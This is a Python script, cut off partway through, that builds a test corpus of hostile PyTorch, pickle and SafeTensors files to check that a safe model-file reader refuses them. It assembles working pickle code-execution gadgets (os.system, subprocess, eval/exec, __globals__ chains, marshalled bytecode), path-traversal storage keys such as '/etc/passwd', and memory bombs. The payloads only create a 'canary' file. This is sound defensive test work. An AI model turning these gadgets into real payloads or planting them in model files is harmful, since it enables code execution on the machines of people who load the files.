"""Generate the corpus of hostile inputs that every reader must refuse.

Every PyTorch file starts from a real ``torch.save`` of a small state dict; the object pickle is
then replaced by a hand-assembled one, so each gadget is spelled out opcode by opcode and the
corpus documents exactly which constructs the restricted unpickler has to reject. The other
containers are assembled the same way, field by field: SafeTensors headers, Flax msgpack (its
extension type 1 arrays), HDF5 and ``.keras`` files (written with h5py alone, when it is
installed), NeuralForecast save folders whose pickles name unknown classes, TorchScript archives
(data.pkl, constants.pkl and the code/ text), NumPy ``.npy``/``.npz`` files and pickles of arrays,
and TFLite flatbuffers (written by a small flatbuffer writer here).

Canary convention: every payload that executes code (if it ever ran) only creates a file named
``canary`` in the current working directory. Tests run the converter in an empty temporary cwd
and assert that ``canary`` never appears. Payloads do nothing else.

Usage::

    .venv/bin/python scripts/make_hostile.py [--out fixtures/hostile] [--self-check]

``--self-check`` loads every generated file that has an unsafe loader -- plain ``pickle.load``,
``torch.load(weights_only=False)``, ``torch.jit.load`` (then the module called once, then the
archive's pickles through pickle with stand-ins for ``__torch__`` classes), ``np.load(allow_pickle=True)``
-- in a throw-away subprocess and temp cwd, to prove each code-execution payload really creates the
canary; it first checks that the unedited containers load in their own frameworks. Tests never run
it. Files of the other kinds (SafeTensors, msgpack, HDF5, TFLite) have no unsafe loader and are
listed as not checked.
"""

from __future__ import annotations

import argparse
import base64
import io
import json
import os
import pickle
import pickletools
import struct
import subprocess
import sys
import tarfile
import tempfile
import time
import warnings
import zipfile
from collections.abc import Callable, Iterable, Mapping, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import TypeAlias

import torch
from torch import nn

REPO = Path(__file__).resolve().parent.parent
DEFAULT_OUT = REPO / "fixtures" / "hostile"

CANARY = "canary"
CANARY_SHELL = f"touch {CANARY}"
CANARY_ARGV = ("touch", CANARY)
CANARY_SOURCE = f"open({CANARY!r}, 'w').close()"
# marshal.dumps(compile(CANARY_SOURCE, "<hostile>", "exec")) under CPython 3.11. Kept as a
# constant so the corpus is byte-identical whichever Python version regenerates it.
CANARY_CODE_MARSHAL = bytes.fromhex(
    "630000000000000000000000000400000000000000f34200000097000200650064006401a6020000ab02"
    "0000000000000000a0010000000000000000000000000000000000000000a6000000ab00000000000000"
    "00000100640253002903da0663616e617279da01774e2902da046f70656eda05636c6f7365a900f30000"
    "0000fa093c686f7374696c653efa083c6d6f64756c653e7208000000010000007329000000f003010101"
    "d80004800480588873d10013d40013d70019d20019d1001bd4001bd0001bd0001bd0001b7206000000"
)

# The base checkpoint: one float32 tensor of shape (2, 3) in storage key "0".
NUMEL = 6
SIZE = (2, 3)
STRIDE = (3, 1)
ZIP_ROOT = "archive"
ZIP_DATE = (1980, 1, 1, 0, 0, 0)
ZIP_ALIGNMENT = 64  # torch pads local headers so every record starts 64-byte aligned
SERIALIZATION_ID = b"0" * 40  # torch writes a random id; fixed here for reproducible bytes
EXT_CODE = 240  # copyreg extension codes 240-255 are reserved for private use

Emit: TypeAlias = Callable[["Pickle"], None]
Value: TypeAlias = "None | bool | int | str | bytes | tuple[Value, ...] | dict[Value, Value] | Emit"


class Pickle:
    """A pickle stream assembled opcode by opcode, so each gadget reads like its disassembly."""

    def __init__(self, protocol: int) -> None:
        self._out = bytearray(pickle.PROTO + bytes([protocol]))

    def op(self, opcode: bytes, arg: bytes = b"") -> Pickle:
        self._out += opcode + arg
        return self

    def push(self, value: Value) -> Pickle:
        """Emit opcodes leaving ``value`` on the stack; callables emit themselves (gadgets)."""
        if callable(value):
            value(self)
        elif value is None:
            self.op(pickle.NONE)
        elif isinstance(value, bool):
            self.op(pickle.NEWTRUE if value else pickle.NEWFALSE)
        elif isinstance(value, int):
            if 0 <= value < 2**8:
                self.op(pickle.BININT1, bytes([value]))
            elif -(2**31) <= value < 2**31:
                self.op(pickle.BININT, struct.pack("<i", value))
            else:
                raw = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
                self.op(pickle.LONG1, bytes([len(raw)]) + raw)
        elif isinstance(value, str):
            raw = value.encode()
            self.op(pickle.BINUNICODE, struct.pack("<I", len(raw)) + raw)
        elif isinstance(value, bytes):
            self.op(pickle.BINBYTES, struct.pack("<I", len(value)) + value)
        elif isinstance(value, tuple):
            if not value:
                return self.op(pickle.EMPTY_TUPLE)
            self.op(pickle.MARK)
            for item in value:
                self.push(item)
            self.op(pickle.TUPLE)
        elif isinstance(value, dict):
            self.op(pickle.EMPTY_DICT)
            if value:
                self.setitems(value)
        else:
            raise TypeError(f"cannot pickle {value!r}")
        return self

    def setitems(self, items: Mapping[Value, Value]) -> Pickle:
        self.op(pickle.MARK)
        for key, item in items.items():
            self.push(key).push(item)
        return self.op(pickle.SETITEMS)

    def finish(self) -> bytes:
        return bytes(self._out + pickle.STOP)


def dump(root: Value, protocol: int = 2) -> bytes:
    """Pickle ``root``; protocol 2 matches what torch.save writes."""
    return Pickle(protocol).push(root).finish()


def glob(module: str, name: str) -> Emit:
    return lambda p: p.op(pickle.GLOBAL, f"{module}\n{name}\n".encode())


def call(func: Value, *args: Value) -> Emit:
    """``func(*args)`` via REDUCE: the basic code-execution primitive of pickle."""
    return lambda p: p.push(func).push(args).op(pickle.REDUCE)


def attr(obj: Value, name: str) -> Emit:
    return call(glob("builtins", "getattr"), obj, name)


def stack_global(module: str, name: str) -> Emit:
    return lambda p: p.push(module).push(name).op(pickle.STACK_GLOBAL)


def inst(module: str, name: str, *args: Value) -> Emit:
    def emit(p: Pickle) -> None:
        p.op(pickle.MARK)
        for arg in args:
            p.push(arg)
        p.op(pickle.INST, f"{module}\n{name}\n".encode())

    return emit


def obj(cls: Value, *args: Value) -> Emit:
    def emit(p: Pickle) -> None:
        p.op(pickle.MARK).push(cls)
        for arg in args:
            p.push(arg)
        p.op(pickle.OBJ)

    return emit


def newobj(cls: Value, args: tuple[Value, ...]) -> Emit:
    return lambda p: p.push(cls).push(args).op(pickle.NEWOBJ)


def newobj_ex(cls: Value, args: tuple[Value, ...], kwargs: dict[Value, Value]) -> Emit:
    return lambda p: p.push(cls).push(args).push(kwargs).op(pickle.NEWOBJ_EX)


def build(target: Value, *states: Value) -> Emit:
    def emit(p: Pickle) -> None:
        p.push(target)
        for state in states:
            p.push(state).op(pickle.BUILD)

    return emit


def ext1(code: int) -> Emit:
    return lambda p: p.op(pickle.EXT1, bytes([code]))


def recall(slot: int) -> Emit:
    """BINGET: the object stored in memo ``slot`` again, the same object (how pickles share and cycle)."""
    return lambda p: p.op(pickle.BINGET, bytes([slot]))


def persid(pid: tuple[Value, ...]) -> Emit:
    return lambda p: p.push(pid).op(pickle.BINPERSID)


def shared_list_bomb(p: Pickle, depth: int) -> None:
    """``[x, x]`` nested ``depth`` times, every level the previous one twice through memo slot 0."""
    p.push("x").op(pickle.BINPUT, b"\x00")
    for _ in range(depth):
        p.op(pickle.POP).op(pickle.MARK).op(pickle.BINGET, b"\x00").op(pickle.BINGET, b"\x00")
        p.op(pickle.LIST).op(pickle.BINPUT, b"\x00")


def ordered_dict(items: Mapping[Value, Value] | None = None) -> Emit:
    """``collections.OrderedDict()`` as torch writes it for backward_hooks, optionally filled."""
    empty = call(glob("collections", "OrderedDict"))
    if not items:
        return empty
    return lambda p: p.push(empty).setitems(items)


def tensor(
    storage: Value,
    offset: Value = 0,
    size: Value = SIZE,
    stride: Value = STRIDE,
    hooks: Value = None,
) -> Emit:
    """``torch._utils._rebuild_tensor_v2`` exactly as torch.save emits it; any argument may be a gadget."""
    backward_hooks = ordered_dict() if hooks is None else hooks
    return call(glob("torch._utils", "_rebuild_tensor_v2"), storage, offset, size, stride, False, backward_hooks)


@dataclass(frozen=True)
class Format:
    """Checkpoint container; the only pickle-level difference is the storage persistent id."""

    name: str  # "zip" or "legacy"

    def storage(self, key: Value = "0", numel: Value = NUMEL, view: Value = None) -> Emit:
        """Persistent id of a FloatStorage; legacy ids carry a trailing view_metadata field."""
        pid: tuple[Value, ...] = ("storage", glob("torch", "FloatStorage"), key, "cpu", numel)
        if self.name == "legacy":
            pid += (view,)
        return persid(pid)


ZIP = Format("zip")
LEGACY = Format("legacy")
ObjectFor: TypeAlias = Callable[[Format], Value]


def benign(fmt: Format) -> Value:
    return {"weight": tensor(fmt.storage())}


def beside(gadget: Value) -> ObjectFor:
    """A valid state dict with the gadget as a second entry, so a reader meets real torch structure first."""
    return lambda fmt: {"weight": tensor(fmt.storage()), "extra": gadget}


def weight(**tensor_args: Value) -> ObjectFor:
    """A state dict whose only tensor uses forged rebuild arguments."""
    return lambda fmt: {"weight": tensor(fmt.storage(), **tensor_args)}


def weight_storage(**storage_args: Value) -> ObjectFor:
    """A state dict whose only tensor has a forged storage persistent id."""
    return lambda fmt: {"weight": tensor(fmt.storage(**storage_args))}


OS_SYSTEM = call(glob("os", "system"), CANARY_SHELL)
UNKNOWN = glob("evil", "Payload")
NO_CANARY = " (no canary by design)"


def os_module_via_torch() -> Emit:
    """The os module itself, reached as an attribute of a torch module: GLOBAL 'torch.serialization os'."""
    return glob("torch.serialization", "os")


def exec_via_rebuild_globals() -> Emit:
    """builtins.exec reached from the allow-listed rebuild function: f.__globals__['__builtins__']['exec']."""
    module_globals = attr(glob("torch._utils", "_rebuild_tensor_v2"), "__globals__")
    builtins_dict = call(attr(module_globals, "get"), "__builtins__")
    return call(attr(builtins_dict, "get"), "exec")


def marshalled_function() -> Emit:
    """A function built from marshalled bytecode: types.FunctionType(marshal.loads(code), {})."""
    return call(glob("types", "FunctionType"), call(glob("marshal", "loads"), CANARY_CODE_MARSHAL), {})


@dataclass(frozen=True)
class Gadget:
    """An object pickle written in both zip and legacy form."""

    name: str
    attack: str
    canary: bool  # would create the canary under torch.load(weights_only=False)
    root: ObjectFor
    protocol: int = 2
    expect: str = "refused"


def executes(name: str, attack: str, root: ObjectFor, protocol: int = 2) -> Gadget:
    return Gadget(name, attack, True, root, protocol)


def inert(name: str, attack: str, root: ObjectFor, protocol: int = 2) -> Gadget:
    """A gadget that cannot create the canary (missing class, bad reference), yet must be refused."""
    return Gadget(name, attack + NO_CANARY, False, root, protocol)


def recorded(name: str, attack: str, root: ObjectFor, protocol: int = 2) -> Gadget:
    """A class no reader knows beside real weights: converted, the class kept as an inert record of its
    name and arguments (never imported, called or carried into the weights)."""
    return Gadget(name, attack + NO_CANARY, False, root, protocol, "inert")


GADGETS: tuple[Gadget, ...] = (
    # Direct calls of dangerous globals.
    executes("os_system", "GLOBAL os.system + REDUCE 'touch canary'", beside(OS_SYSTEM)),
    executes(
        "posix_system",
        "GLOBAL posix.system (os.system under its C module name)",
        beside(call(glob("posix", "system"), CANARY_SHELL)),
    ),
    executes("os_popen", "os.popen('touch canary')", beside(call(glob("os", "popen"), CANARY_SHELL))),
    executes(
        "subprocess_popen",
        "subprocess.Popen(('touch', 'canary'))",
        beside(call(glob("subprocess", "Popen"), CANARY_ARGV)),
    ),
    executes(
        "subprocess_call",
        "subprocess.call(('touch', 'canary'))",
        beside(call(glob("subprocess", "call"), CANARY_ARGV)),
    ),
    executes(
        "subprocess_check_output",
        "subprocess.check_output(('touch', 'canary'))",
        beside(call(glob("subprocess", "check_output"), CANARY_ARGV)),
    ),
    executes(
        "builtins_eval",
        "builtins.eval of source that creates canary",
        beside(call(glob("builtins", "eval"), CANARY_SOURCE)),
    ),
    executes(
        "builtins_exec",
        "builtins.exec of source that creates canary",
        beside(call(glob("builtins", "exec"), CANARY_SOURCE)),
    ),
    executes(
        "builtins_open",
        "builtins.open('canary', 'w') creates the file",
        beside(call(glob("builtins", "open"), CANARY, "w")),
    ),
    executes(
        "shutil_copyfile",
        "shutil.copyfile(GLOBAL os.devnull, 'canary'): a non-callable GLOBAL as argument",
        beside(call(glob("shutil", "copyfile"), glob("os", "devnull"), CANARY)),
    ),
    executes(
        "runpy_run_code",
        "runpy._run_code(source, {}) execs source",
        beside(call(glob("runpy", "_run_code"), CANARY_SOURCE, {})),
    ),
    # Indirection: the dangerous callable is computed, never named by a GLOBAL.
    executes(
        "import_getattr",
        "builtins.getattr(builtins.__import__('os'), 'system')('touch canary')",
        beside(call(attr(call(glob("builtins", "__import__"), "os"), "system"), CANARY_SHELL)),
    ),
    executes(
        "importlib_import_module",
        "builtins.getattr(importlib.import_module('os'), 'system')('touch canary')",
        beside(call(attr(call(glob("importlib", "import_module"), "os"), "system"), CANARY_SHELL)),
    ),
    executes(
        "getattr_builtins_module",
        "builtins.getattr(sys.modules.get('builtins'), 'eval')(source)",
        beside(call(attr(call(attr(glob("sys", "modules"), "get"), "builtins"), "eval"), CANARY_SOURCE)),
    ),
    executes(
        "getattr_globals",
        "getattr chain from allow-listed _rebuild_tensor_v2 via __globals__['__builtins__']['exec']",
        beside(call(exec_via_rebuild_globals(), CANARY_SOURCE)),
    ),
    executes(
        "operator_attrgetter",
        "operator.attrgetter('os.system')(GLOBAL torch.serialization) then called",
        beside(call(call(call(glob("operator", "attrgetter"), "os.system"), glob("torch", "serialization")), CANARY_SHELL)),
    ),
    executes(
        "operator_methodcaller",
        "operator.methodcaller('system', 'touch canary') on GLOBAL 'torch.serialization os' (os under a torch name)",
        beside(call(call(glob("operator", "methodcaller"), "system", CANARY_SHELL), os_module_via_torch())),
    ),
    executes(
        "functools_partial",
        "functools.partial(os.system, 'touch canary') then called with ()",
        beside(call(call(glob("functools", "partial"), glob("os", "system"), CANARY_SHELL))),
    ),
    executes(
        "types_functiontype",
        "types.FunctionType(marshal.loads(<code object>), {})() (canary on CPython 3.11 only)",
        beside(call(marshalled_function())),
    ),
    # Other opcodes that resolve or call globals.
    executes(
        "stack_global",
        "STACK_GLOBAL 'os' 'system' (protocol 4: names come from the stack, not the opcode)",
        beside(call(stack_global("os", "system"), CANARY_SHELL)),
        protocol=4,
    ),
    executes(
        "ext1_copyreg",
        "copyreg.add_extension('os', 'system', 240) then EXT1 240 resolves os.system without GLOBAL",
        lambda fmt: {
            "weight": tensor(fmt.storage()),
            "register": call(glob("copyreg", "add_extension"), "os", "system", EXT_CODE),
            "extra": call(ext1(EXT_CODE), CANARY_SHELL),
        },
    ),
    executes(
        "inst_os_system",
        "INST os.system calls it with the marked args",
        beside(inst("os", "system", CANARY_SHELL)),
    ),
    executes(
        "obj_os_system",
        "OBJ on GLOBAL os.system calls it with the marked args",
        beside(obj(glob("os", "system"), CANARY_SHELL)),
    ),
    executes(
        "build_setstate",
        "backward_hooks OrderedDict gets BUILD {'__setstate__': os.system}, a second BUILD calls it",
        weight(hooks=build(ordered_dict(), {"__setstate__": glob("os", "system")}, CANARY_SHELL)),
    ),
    # Gadgets hidden inside the tensor-rebuild structure.
    executes("rebuild_size_gadget", "_rebuild_tensor_v2 size argument is os.system(...)", weight(size=OS_SYSTEM)),
    executes(
        "rebuild_hooks_gadget",
        "backward_hooks OrderedDict holds os.system(...) as a value",
        weight(hooks=ordered_dict({"hook": OS_SYSTEM})),
    ),
    executes("persid_gadget", "storage key inside the persistent id is os.system(...)", weight_storage(key=OS_SYSTEM)),
    # Python 2 module names, as torch.save's protocol 2 writes them.
    executes(
        "py2_builtin_eval",
        "GLOBAL __builtin__.eval (Python 2's name for builtins) of source that creates canary",
        beside(call(glob("__builtin__", "eval"), CANARY_SOURCE)),
    ),
    inert("py2_commands_popen", "GLOBAL commands.Popen (Python 2's subprocess helpers)", beside(glob("commands", "Popen"))),
    # A harmless unknown class first: the dangerous global after it is still refused, by name.
    executes(
        "unknown_then_os_system",
        "fractions.Fraction(1), a class no reader has a stand-in for, first; then os.system('touch canary')",
        lambda fmt: {"weight": tensor(fmt.storage()), "config": call(glob("fractions", "Fraction"), 1), "extra": OS_SYSTEM},
    ),
    # Unknown classes: nothing to import; each becomes an inert record and the weights convert.
    recorded("inst_unknown", "INST evil.Payload", beside(inst("evil", "Payload", CANARY_SHELL))),
    recorded("obj_unknown", "OBJ on GLOBAL evil.Payload", beside(obj(UNKNOWN, CANARY_SHELL))),
    recorded("newobj_unknown", "NEWOBJ of evil.Payload", beside(newobj(UNKNOWN, (CANARY_SHELL,)))),
    recorded(
        "newobj_ex_unknown",
        "NEWOBJ_EX of evil.Payload (protocol 4)",
        beside(newobj_ex(UNKNOWN, (), {"cmd": CANARY_SHELL})),
        protocol=4,
    ),
    recorded(
        "build_unknown",
        "BUILD state onto a NEWOBJ evil.Payload",
        beside(build(newobj(UNKNOWN, ()), {"cmd": CANARY_SHELL})),
    ),
    # Storage references that escape or overrun the archive.
    inert("persid_dotdot", "storage key '../../etc/passwd'", weight_storage(key="../../etc/passwd")),
    inert("persid_absolute", "storage key '/etc/passwd'", weight_storage(key="/etc/passwd")),
    inert("persid_missing", "storage key '7' that the file does not contain", weight_storage(key="7")),
    inert("forged_numel", "storage numel 2**40, far beyond its 6-element record", weight_storage(numel=2**40)),
    inert("negative_numel", "storage numel -6", weight_storage(numel=-NUMEL)),
    inert("negative_offset", "tensor storage_offset -1", weight(offset=-1)),
    inert("offset_past_end", "storage_offset 4 with size (2, 3) reads past the 6-element storage", weight(offset=4)),
    inert("negative_size", "tensor size (-2, 3)", weight(size=(-2, 3))),
    inert("negative_stride", "tensor stride (-3, 1) walks before the storage start", weight(stride=(-3, 1))),
    inert("stride_past_end", "tensor stride (100, 1) reaches past the storage end", weight(stride=(100, 1))),
    inert(
        "size_overflow",
        "size (2**32, 2**32) stride (2**32, 1): extent overflows int64",
        weight(size=(2**32, 2**32), stride=(2**32, 1)),
    ),
    # Resource bombs: a few dozen bytes that ask for exponential work or gigabytes of memory.
    inert(
        "shared_list_bomb",
        "[x, x] nested 64 deep through the memo: 2**64 paths for a reader that walks containers",
        beside(lambda p: shared_list_bomb(p, 64)),
    ),
    inert(
        "bytearray_bomb",
        "builtins.bytearray(2**33) on the allow-list would zero-fill 8 GiB",
        beside(call(glob("builtins", "bytearray"), 2**33)),
    ),
    inert(
        "build_dtype_marker",
        "BUILD {'code': {}} onto GLOBAL torch.float32: alters a frozen stand-in behind its back",
        lambda fmt: {
            "weight": call(
                glob("torch._utils", "_rebuild_tensor_v3"),
                fmt.storage(),
                0,
                SIZE,
                STRIDE,
                False,
                ordered_dict(),
                build(glob("torch", "float32"), {"code": {}}),
            )
        },
    ),
)


@dataclass(frozen=True)
class TorchBase:
    """Pieces of real torch.save output that every hostile checkpoint is assembled from."""

    zip_entries: tuple[tuple[str, bytes], ...]  # archive-relative names, in torch's order
    legacy_magic: bytes
    legacy_protocol: bytes
    legacy_sys_info: bytes
    legacy_keys: bytes
    legacy_records: bytes  # per storage: int64 element count, then the raw bytes


class TinyNet(nn.Module):
    """Pickled whole, its class is the global ``__main__.TinyNet``, which no allow-list may contain."""

    def __init__(self) -> None:
        super().__init__()
        self.proj = nn.Linear(3, 2)


def base_state() -> dict[str, torch.Tensor]:
    return {"weight": torch.arange(NUMEL, dtype=torch.float32).reshape(SIZE)}


def torch_zip_entries(root: object) -> tuple[tuple[str, bytes], ...]:
    """torch.save ``root`` and return its records with the random serialization id fixed."""
    buf = io.BytesIO()
    torch.save(root, buf)
    with zipfile.ZipFile(buf) as zf:
        entries = [(info.filename.split("/", 1)[1], zf.read(info)) for info in zf.infolist()]
    return tuple((name, SERIALIZATION_ID if name == ".data/serialization_id" else data) for name, data in entries)


def split_pickles(stream: io.BytesIO, count: int) -> list[bytes]:
    """Cut ``count`` consecutive pickles off ``stream`` without unpickling them."""
    parts = []
    for _ in range(count):
        start = stream.tell()
        for _ in pickletools.genops(stream):
            pass
        parts.append(stream.getvalue()[start : stream.tell()])
    return parts


def torch_base() -> TorchBase:
    legacy = io.BytesIO()
    torch.save(base_state(), legacy, _use_new_zipfile_serialization=False)
    legacy.seek(0)
    # The object pickle and key list name storages by memory address; both are rewritten.
    magic, protocol, sys_info, _objects, _keys = split_pickles(legacy, 5)
    records = legacy.read()
    if struct.unpack_from("<q", records)[0] != NUMEL:
        raise RuntimeError("unexpected legacy storage layout from torch.save")
    return TorchBase(
        zip_entries=torch_zip_entries(base_state()),
        legacy_magic=magic,
        legacy_protocol=protocol,
        legacy_sys_info=sys_info,
        legacy_keys=pickle.dumps(["0"], protocol=2),
        legacy_records=records,
    )


def zip_archive(entries: Iterable[tuple[str, bytes]]) -> bytes:
    """Write records like torch does (stored, 64-byte aligned) but with fixed timestamps."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for name, data in entries:
            info = zipfile.ZipInfo(f"{ZIP_ROOT}/{name}", date_time=ZIP_DATE)
            info.create_system = 0  # the default depends on the host OS
            data_start = buf.tell() + 30 + len(info.filename.encode()) + 4
            pad = -data_start % ZIP_ALIGNMENT
            info.extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
            zf.writestr(info, data)
    return buf.getvalue()


def zip_checkpoint(
    base: TorchBase,
    data_pkl: bytes,
    replace: Mapping[str, bytes] | None = None,
    append: Sequence[tuple[str, bytes]] = (),
) -> bytes:
    records = {"data.pkl": data_pkl, **(replace or {})}
    return zip_archive([(name, records.get(name, data)) for name, data in base.zip_entries] + list(append))


def legacy_checkpoint(
    base: TorchBase,
    objects: bytes,
    *,
    magic: bytes | None = None,
    sys_info: bytes | None = None,
    keys: bytes | None = None,
    records: bytes | None = None,
) -> bytes:
    """Magic, protocol, sys_info, object pickle, storage key list, storage records, in torch's order."""
    return b"".join(
        (
            magic or base.legacy_magic,
            base.legacy_protocol,
            sys_info or base.legacy_sys_info,
            objects,
            keys or base.legacy_keys,
            records or base.legacy_records,
        )
    )


def legacy_tar(members: Mapping[str, bytes]) -> bytes:
    """The pre-1.0 tar checkpoint layout, which torch.load still tries first on legacy files."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mode = 0o644
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


@dataclass(frozen=True)
class Hostile:
    """One corpus file (or folder: name -> bytes) and its catalog entry."""

    file: str
    kind: str  # "zip", "legacy", "raw-pickle", "safetensors", "msgpack", "hdf5", "keras", "neuralforecast",
    # "torchscript", "npy", "npz", "numpy-pickle", "tflite"
    attack: str
    canary: bool
    data: bytes | Mapping[str, bytes]
    # "refused"; or "inert": converted, with the hostile part neither run nor carried into the output
    # (Keras Lambda layers: the weights are data, the marshalled code is dropped with a warning).
    expect: str = "refused"


def gadget_files(base: TorchBase) -> list[Hostile]:
    files = []
    for g in GADGETS:
        zip_data = zip_checkpoint(base, dump(g.root(ZIP), g.protocol))
        legacy_data = legacy_checkpoint(base, dump(g.root(LEGACY), g.protocol))
        files.append(Hostile(f"zip_{g.name}.pt", "zip", g.attack, g.canary, zip_data, g.expect))
        files.append(Hostile(f"legacy_{g.name}.pt", "legacy", g.attack, g.canary, legacy_data, g.expect))
    return files


def pickle_in_storage_files(base: TorchBase) -> list[Hostile]:
    """A storage record whose bytes are a malicious pickle; it is data and must never be unpickled.

    The reference claims one element more than the record holds, so a correct reader has a
    structural reason to refuse rather than convert the pickle bytes into a tensor.
    """
    payload = dump(OS_SYSTEM)
    numel = len(payload) // 4 + 1
    attack = "storage record holds an os.system pickle; numel claims one element past the record end" + NO_CANARY

    def root(fmt: Format) -> Value:
        return {"weight": tensor(fmt.storage(numel=numel), size=(numel,), stride=(1,))}

    return [
        Hostile(
            "zip_pickle_in_storage.pt",
            "zip",
            attack,
            False,
            zip_checkpoint(base, dump(root(ZIP)), replace={"data/0": payload}),
        ),
        Hostile(
            "legacy_pickle_in_storage.pt",
            "legacy",
            attack,
            False,
            legacy_checkpoint(base, dump(root(LEGACY)), records=struct.pack("<q", numel) + payload),
        ),
    ]


def storage_edited(archive: bytes, what: str) -> bytes:
    """`archive` with storage data/0 edited behind the central directory's back: one byte of its data
    flipped ("byte"), or its local header's name length one more ("name length")."""
    with zipfile.ZipFile(io.BytesIO(archive)) as zf:
        info = zf.getinfo(f"{ZIP_ROOT}/data/0")
    buf = bytearray(archive)
    name_len, extra_len = struct.unpack_from("<HH", buf, info.header_offset + 26)
    if what == "byte":
        buf[info.header_offset + 30 + name_len + extra_len] ^= 0x40
    else:
        struct.pack_into("<H", buf, info.header_offset + 26, name_len + 1)
    return bytes(buf)


def container_files(base: TorchBase) -> list[Hostile]:
    """Attacks on the container rather than the object pickle."""
    benign_zip = zip_checkpoint(base, dump(benign(ZIP)))
    benign_legacy = legacy_checkpoint(base, dump(benign(LEGACY)))
    hostile = dump(OS_SYSTEM)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns about the duplicate name we want
        duplicate = zip_checkpoint(base, dump(benign(ZIP)), append=[("data.pkl", hostile)])
    module = TinyNet()
    with torch.no_grad():
        module.proj.weight.copy_(torch.arange(NUMEL, dtype=torch.float32).reshape(SIZE))
        module.proj.bias.zero_()
    return [
        Hostile(
            "zip_duplicate_data_pkl.pt",
            "zip",
            "two data.pkl entries: benign first, os.system second (readers disagree which wins)",
            True,
            duplicate,
        ),
        Hostile(
            "zip_whole_module.pt",
            "zip",
            "whole module pickle: torch.save(nn.Module) of __main__.TinyNet, a class no reader can import" + NO_CANARY,
            False,
            zip_archive(torch_zip_entries(module)),
            "inert",
        ),
        Hostile(
            "zip_truncated.pt",
            "zip",
            "truncated: real checkpoint cut in half" + NO_CANARY,
            False,
            benign_zip[: len(benign_zip) // 2],
        ),
        Hostile(
            "zip_storage_crc_mismatch.pt",
            "zip",
            "a byte of storage data/0 changed, its CRC-32 in both headers left as it was" + NO_CANARY,
            False,
            storage_edited(benign_zip, "byte"),
        ),
        Hostile(
            "zip_local_header_shifted.pt",
            "zip",
            "storage data/0's local header names one byte more than the central directory: the data start moves" + NO_CANARY,
            False,
            storage_edited(benign_zip, "name length"),
        ),
        Hostile(
            "legacy_truncated.pt",
            "legacy",
            "truncated: real checkpoint cut in half" + NO_CANARY,
            False,
            benign_legacy[: len(benign_legacy) // 2],
        ),
        Hostile(
            "legacy_magic_gadget.pt",
            "legacy",
            "the leading magic-number pickle is os.system(...)",
            True,
            legacy_checkpoint(base, dump(benign(LEGACY)), magic=hostile),
        ),
        Hostile(
            "legacy_sys_info_gadget.pt",
            "legacy",
            "the sys_info pickle hides os.system(...) in its type_sizes value",
            True,
            legacy_checkpoint(
                base,
                dump(benign(LEGACY)),
                sys_info=dump({"protocol_version": 1001, "little_endian": True, "type_sizes": OS_SYSTEM}),
            ),
        ),
        Hostile(
            "legacy_keys_gadget.pt",
            "legacy",
            "the storage-key list pickle after the object pickle is os.system(...)",
            True,
            legacy_checkpoint(base, dump(benign(LEGACY)), keys=hostile),
        ),
        Hostile(
            "legacy_view_past_end.pt",
            "legacy",
            "legacy view_metadata ('view', 4, 6) slices past the 6-element root storage" + NO_CANARY,
            False,
            legacy_checkpoint(base, dump({"weight": tensor(LEGACY.storage(view=("view", 4, NUMEL)))})),
        ),
        Hostile(
            "legacy_tar_os_system.pt",
            "legacy",
            "pre-1.0 tar checkpoint whose 'storages' pickle is os.system(...)",
            True,
            legacy_tar({"storages": hostile, "tensors": dump(0), "pickle": dump({})}),
        ),
    ]


def raw_files() -> list[Hostile]:
    return [
        Hostile("raw_os_system.pkl", "raw-pickle", "bare pickle: os.system('touch canary')", True, dump(OS_SYSTEM)),
        Hostile(
            "raw_builtins_eval.pkl",
            "raw-pickle",
            "bare pickle: builtins.eval of source that creates canary",
            True,
            dump(call(glob("builtins", "eval"), CANARY_SOURCE)),
        ),
    ]


# ---------------------------------------------------------------------------------------------
# SafeTensors: an 8-byte little-endian header length, a JSON header, the data buffer
# ---------------------------------------------------------------------------------------------

WEIGHT_BYTES = struct.pack(f"<{NUMEL}f", *range(NUMEL))  # the base tensor: float32 (2, 3), arange


def st_entry(dtype: object = "F32", shape: object = list(SIZE), offsets: object = (0, 4 * NUMEL)) -> dict[str, object]:
    return {"dtype": dtype, "shape": shape, "data_offsets": list(offsets) if isinstance(offsets, tuple) else offsets}


def safetensors_file(header: Mapping[str, object] | bytes, data: bytes = WEIGHT_BYTES, length: int | None = None) -> bytes:
    """Length prefix (the header's true length unless forged), header (JSON unless raw bytes), data."""
    raw = header if isinstance(header, bytes) else json.dumps(header, separators=(",", ":")).encode()
    raw += b" " * (-(8 + len(raw)) % 8)
    return struct.pack("<Q", len(raw) if length is None else length) + raw + data


def safetensors_files() -> list[Hostile]:
    def st(name: str, attack: str, data: bytes) -> Hostile:
        return Hostile(f"st_{name}.safetensors", "safetensors", attack + NO_CANARY, False, data)

    valid = json.dumps({"weight": st_entry()}, separators=(",", ":")).encode()
    return [
        st(
            "overlapping_offsets",
            "tensors a [0, 24) and b [8, 32) share bytes",
            safetensors_file({"a": st_entry(), "b": st_entry(offsets=(8, 32))}, WEIGHT_BYTES + bytes(8)),
        ),
        st(
            "offset_past_end",
            "data_offsets [2**40, 2**40 + 24) far past the 24-byte buffer",
            safetensors_file({"weight": st_entry(offsets=(2**40, 2**40 + 24))}),
        ),
        st(
            "offset_past_u64",
            "data_offsets beyond 2**64, which no u64 holds",
            safetensors_file({"weight": st_entry(offsets=(2**64, 2**64 + 24))}),
        ),
        st("negative_offset", "data_offsets [-8, 16)", safetensors_file({"weight": st_entry(offsets=(-8, 16))})),
        st(
            "offsets_reversed",
            "data_offsets [24, 0): end before begin",
            safetensors_file({"weight": st_entry(shape=[0], offsets=(24, 0))}),
        ),
        st(
            "header_over_limit",
            "length prefix 100_000_001: over the format's 100 MB header limit",
            safetensors_file(valid, length=100_000_001),
        ),
        st("header_past_eof", "length prefix 4096 for a file of a few dozen bytes", safetensors_file(valid, length=4096)),
        st(
            "header_not_utf8", "header bytes that are not UTF-8", safetensors_file(valid.replace(b'"weight"', b'"w\xff\xfeight"'))
        ),
